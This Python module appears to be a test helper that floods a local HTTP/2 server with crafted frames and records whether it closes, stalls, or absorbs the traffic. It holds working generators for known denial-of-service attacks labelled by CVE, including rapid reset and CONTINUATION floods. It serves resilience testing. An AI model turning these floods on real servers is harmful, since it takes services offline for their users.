"""Clients that flood a door with frames of HTTP/2 and read none of the answers; frames as RFC 9113 has them, header
blocks as RFC 7541 has them."""

import itertools
import socket
from collections.abc import Callable, Iterator, Mapping

_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_END_HEADERS = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_MOST_BYTES, _PIECE_BYTES, _STALL_SECONDS = 4 << 20, 64 << 10, 0.5
"""Of a flood, as the door takes it."""
BEYOND_KERNEL_BYTES = 128 << 20
"""More than the kernel keeps of what a door does not read (32 MiB, tcp_rmem) and of its answers (tcp_wmem)."""
_ROOM_BYTES = 4096
"""For answers, in the client's kernel: they are soon too many."""


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _field(name: str, value: str) -> bytes:
    """A literal header field, not indexed; both of less than 127 bytes."""
    return b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in (name, value))


_CALL = b"".join(
    itertools.starmap(
        _field,
        {":method": "POST", ":scheme": "http", ":path": "/grpc.health.v1.Health/Watch", ":authority": "localhost",
         "content-type": "application/grpc", "te": "trailers"}.items(),
    )
)  # fmt: skip
_COLUMN = _field("x-flood", "f" * 100)


def _streams() -> Iterator[int]:
    return itertools.count(1, 2)


def _resets() -> Iterator[bytes]:
    """Calls that are taken back at once (CVE-2023-44487)."""
    for stream in _streams():
        yield frame(_HEADERS, _CALL, flags=_END_HEADERS, stream=stream)
        yield frame(_RST_STREAM, (8).to_bytes(4, "big"), stream=stream)


def _headers_without_end() -> Iterator[bytes]:
    """One call's (CVE-2024-27316)."""
    yield frame(_HEADERS, _CALL, stream=1)
    yield from itertools.repeat(frame(_CONTINUATION, _COLUMN * 100, stream=1))


def _priorities() -> Iterator[bytes]:
    """Of streams that were not opened (CVE-2019-9513)."""
    for stream in _streams():
        yield frame(_PRIORITY, bytes([0, 0, 0, 0, 16]), stream=stream & 0x7FFFFFFF)


def _empty_data() -> Iterator[bytes]:
    """CVE-2019-9518."""
    yield frame(_HEADERS, _CALL, flags=_END_HEADERS, stream=1)
    yield from itertools.repeat(frame(_DATA, stream=1))


FLOODS: Mapping[str, Callable[[], Iterator[bytes]]] = {
    "pings": lambda: itertools.repeat(frame(_PING, b"headrace")),  # CVE-2019-9512
    "settings": lambda: itertools.repeat(frame(_SETTINGS, bytes([0, 3, 0, 0, 0, 100]))),  # CVE-2019-9515
    "priorities": _priorities,
    "window updates": lambda: itertools.repeat(frame(_WINDOW_UPDATE, (1).to_bytes(4, "big"))),
    "resets": _resets,
    "headers without an end": _headers_without_end,
    "empty data": _empty_data,
}


def flood(port: int, name: str, *, most_bytes: int = _MOST_BYTES) -> str:
    """What the door does with `most_bytes` of it: it has "closed" the connection, has "stopped" reading it, or has
    "taken" all."""
    frames = FLOODS[name]()
    with socket.socket() as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _ROOM_BYTES)
        client.settimeout(60.0)
        client.connect(("127.0.0.1", port))
        client.sendall(PREFACE + frame(_SETTINGS))
        client.settimeout(_STALL_SECONDS)
        sent = 0
        try:
            while sent < most_bytes:
                piece = bytearray()
                while len(piece) < _PIECE_BYTES:
                    piece += next(frames)
                client.sendall(piece)
                sent += len(piece)
        except TimeoutError:
            return "stopped"
        except OSError:
            return "closed"
    return "taken"
